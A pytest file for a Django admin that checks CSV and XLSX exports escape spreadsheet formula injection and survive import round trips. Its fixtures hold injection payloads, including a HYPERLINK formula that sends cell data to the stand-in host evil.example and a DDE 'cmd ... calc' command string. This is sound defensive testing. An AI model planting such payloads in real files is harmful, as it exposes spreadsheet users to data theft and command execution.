"""Every CSV the admin exports is safe to open in a spreadsheet (OWASP's CSV-injection rule):
a cell starting with =, +, -, @, a tab or a carriage return gets a leading quote, and XLSX keeps
such values as plain strings."""

import codecs
import csv
import datetime
import io

from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

import pytest
from openpyxl import load_workbook

from articles.models import ArticlePage, LatestSection
from people.models import Term
from tests.factories import ArticlePageFactory, ArticleSectionFactory
from tests.rendered_forms import form_data

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
GLOSSARY = reverse("wagtailsnippets_people_term:list")


@pytest.fixture(autouse=True)
def empty_cache():
    cache.clear()


def csv_rows(response) -> list[list[str]]:
    """The rows of a CSV export, which must start with a byte-order mark: Excel on Chinese
    Windows reads a CSV without one in the local code page and garbles the Chinese."""
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content)
    assert content.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_rows(response) -> list[list]:
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


@pytest.fixture
def term(db):
    return Term.objects.create(
        term_en=FORMULA, term_zh_hans="@SUM(1+1)", notes="-2+3 cmd|' /C calc'!A0"
    )


def test_glossary_csv_cells_cannot_run(client, editor_user, term):
    client.force_login(editor_user)
    header, row = csv_rows(client.get(GLOSSARY, {"export": "csv"}))
    cells = dict(zip(header, row, strict=True))
    assert cells["english"] == "'" + FORMULA
    assert cells["chinese"] == "'@SUM(1+1)"
    assert cells["notes"] == "'-2+3 cmd|' /C calc'!A0"
    # XLSX keeps the text as it is, as a string.
    header, row = xlsx_rows(client.get(GLOSSARY, {"export": "xlsx"}))[:2]
    assert dict(zip(header, row, strict=True))["english"] == FORMULA


def test_glossary_exported_then_imported_is_unchanged(client, editor_user, term):
    """The quote is taken off again on import: a desk's round trip changes nothing."""
    client.force_login(editor_user)
    exported = b"".join(client.get(GLOSSARY, {"export": "csv"}).streaming_content)
    upload = SimpleUploadedFile("glossary.csv", exported, content_type="text/csv")
    preview = client.post(reverse("people_glossary_import"), {"action": "preview", "file": upload})
    assert preview.status_code == 200
    confirm = form_data(preview.content.decode(), "glossary_text")
    assert client.post(reverse("people_glossary_import"), confirm).status_code == 302
    term.refresh_from_db()
    assert (term.term_en, term.term_zh_hans, term.notes) == (
        FORMULA,
        "@SUM(1+1)",
        "-2+3 cmd|' /C calc'!A0",
    )
    assert Term.objects.count() == 1


def test_abridgment_report_csv_cells_cannot_run(client, editor_user, home_page):
    page = ArticlePageFactory(headline_zh_hans="+cmd")
    ArticleSectionFactory(page=page, status="abridged", note="=1+2", heading_zh_hans="\t@x")
    page.save_revision()
    client.force_login(editor_user)
    header, *rows = csv_rows(client.get("/admin/reports/abridgments/", {"export": "csv"}))
    (row,) = rows
    assert row[0] == "'+cmd"
    assert "'=1+2" in row
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_effort_report_csv_cells_cannot_run(client, editor_user, home_page):
    page = ArticlePageFactory(headline_zh_hans="-1+1")
    ArticleSectionFactory(
        page=page,
        ai_draft="甲乙丙丁",
        body_zh_hans="<p>甲乙丙戊</p>",
        ai_draft_model="@model",
        ai_drafted_at=timezone.make_aware(datetime.datetime(2025, 3, 10, 9, 0)),
    )
    page.save_revision().publish()
    assert ArticlePage.objects.get(pk=page.pk).live
    client.force_login(editor_user)
    header, *rows = csv_rows(client.get("/admin/reports/post-editing/", {"export": "csv"}))
    (row,) = rows
    assert row[1] == "'-1+1"
    assert row[4] == "'@model"
    # A figure is a number, not text: it is written as it is.
    assert row[3] == "25.0"


def test_report_times_are_local_to_the_second_in_csv_and_xlsx(client, editor_user, home_page):
    page = ArticlePageFactory(title="时间")
    ArticleSectionFactory(page=page, status="omitted", note="略")
    page.save_revision()
    marked = datetime.datetime(2025, 3, 10, 9, 0, 5, 123456, tzinfo=datetime.UTC)
    LatestSection.objects.filter(page=page).update(status_since=marked)
    client.force_login(editor_user)
    local = timezone.localtime(marked).replace(microsecond=0, tzinfo=None)

    header, row = csv_rows(client.get("/admin/reports/abridgments/", {"export": "csv"}))
    assert local.strftime("%Y-%m-%d %H:%M:%S") in row
    _header, xlsx_row = xlsx_rows(client.get("/admin/reports/abridgments/", {"export": "xlsx"}))
    assert local in xlsx_row
